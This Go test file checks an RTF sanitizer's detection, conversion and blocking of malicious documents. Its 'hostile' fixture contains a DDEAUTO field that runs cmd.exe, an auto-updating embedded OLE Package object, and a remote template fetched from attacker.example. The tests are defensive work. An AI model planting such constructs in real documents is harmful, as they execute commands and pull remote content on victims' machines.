package rtf_test

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/kyojin/kyojin/sanitize"
	"github.com/kyojin/kyojin/sanitize/inspect/ooxmlinspect"
	"github.com/kyojin/kyojin/sanitize/internal/officetest"
	"github.com/kyojin/kyojin/sanitize/ole"
	"github.com/kyojin/kyojin/sanitize/rtf"
)

var _ sanitize.Handler = (*rtf.Handler)(nil)

// hostile is an RTF document with a DDEAUTO field (keyword split across
// groups), an embedded OLE object with \objupdate, a \bin run that
// contains a fake "\object" (which must not be counted) and a remote template.
const hostile = `{\rtf1\ansi\deff0{\fonttbl{\f0 Times;}}` +
	`{\*\template http://attacker.example/t.dotm}` +
	`\pard Hello rtf\par ` +
	`{\field{\*\fldinst {\rtlch DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"}}{\fldrslt {shown result}}}\par ` +
	`{\object\objemb\objupdate\objw100\objh100{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500}{\result shown object}}\par ` +
	`{\*\mybin \bin8 \object\}}` +
	`}`

func TestDetect(t *testing.T) {
	tests := []struct {
		name string
		in   string
		want *rtf.Report
		err  error
	}{
		{"hostile", hostile, &rtf.Report{Objects: 1, ObjData: 1, AutoUpdate: true, Fields: []string{"DDEAUTO"}, Template: true}, nil},
		{"plain", `{\rtf1\ansi Hello {\b bold}\par}`, &rtf.Report{}, nil},
		{"allowed field", `{\rtf1{\field{\*\fldinst PAGE}{\fldrslt 1}}}`, &rtf.Report{}, nil},
		{"short signature", `{\rtx1 ok}`, &rtf.Report{}, nil},
		{"not rtf", `<html>`, nil, rtf.ErrNotRTF},
		{"empty", ``, nil, rtf.ErrNotRTF},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, err := rtf.Detect(strings.NewReader(tc.in))
			if !errors.Is(err, tc.err) {
				t.Fatalf("err = %v, want %v", err, tc.err)
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("Detect = %+v, want %+v", got, tc.want)
			}
		})
	}
}

func sanitizeRTF(t *testing.T, data []byte, opts map[string]string) (*sanitize.Result, []byte, error) {
	t.Helper()
	in := &sanitize.Input{Name: "x.rtf", Type: sanitize.TypeRTF, R: bytes.NewReader(data), Size: int64(len(data)),
		Options: opts, Limits: sanitize.Limits{Timeout: 3 * time.Minute}}
	var out bytes.Buffer
	res, err := rtf.New(nil).Sanitize(context.Background(), in, &out)
	return res, out.Bytes(), err
}

// TestConvertHostile converts the hostile fixture: the output is a DOCX the
// inspector finds clean, that still shows the text, and that LibreOffice opens.
func TestConvertHostile(t *testing.T) {
	officetest.Soffice(t)
	res, out, err := sanitizeRTF(t, []byte(hostile), nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.OutType != sanitize.TypeDOCX {
		t.Errorf("OutType = %s", res.OutType)
	}
	t.Logf("actions: %v", res.Actions)
	want := map[string]bool{"rtf→docx": false, "legacy:oleObject": false, "legacy:field DDEAUTO": false, "legacy:attachedTemplate": false}
	for _, a := range res.Actions {
		if _, ok := want[a.Object]; ok {
			want[a.Object] = true
		}
	}
	for o, seen := range want {
		if !seen {
			t.Errorf("missing action %q in %v", o, res.Actions)
		}
	}
	fs, err := ooxmlinspect.New().Inspect(context.Background(), bytes.NewReader(out), int64(len(out)))
	if err != nil || len(fs) != 0 {
		t.Fatalf("output not clean: %v %v", fs, err)
	}
	if bytes.Contains(out, []byte("attacker.example")) {
		t.Error("remote template survived")
	}
	officetest.OpensInLibreOffice(t, out, ".docx")
}

func TestBlock(t *testing.T) {
	_, _, err := sanitizeRTF(t, []byte(hostile), map[string]string{"legacy": "block"})
	if !errors.Is(err, rtf.ErrBlocked) {
		t.Fatalf("err = %v, want ErrBlocked", err)
	}
}

// TestCorpus converts every RTF sample of the oletools corpus.
func TestCorpus(t *testing.T) {
	dir := officetest.SharedDir(t, "cdr/oletools")
	officetest.Soffice(t)
	for _, name := range []string{"msodde/RTF-Spec-1.7.rtf", "rtfobj/issue_251.rtf"} {
		t.Run(name, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			res, out, err := sanitizeRTF(t, b, nil)
			if err != nil {
				// Blocking is an acceptable verdict for a hostile sample
				// LibreOffice cannot load; it must be a conversion failure.
				if !errors.Is(err, ole.ErrConvert) {
					t.Fatalf("unexpected error: %v", err)
				}
				t.Logf("blocked: %v", err)
				return
			}
			fs, err := ooxmlinspect.New().Inspect(context.Background(), bytes.NewReader(out), int64(len(out)))
			if err != nil || len(fs) != 0 {
				t.Fatalf("output not clean: %v %v", fs, err)
			}
			t.Logf("%v", res.Actions)
		})
	}
}
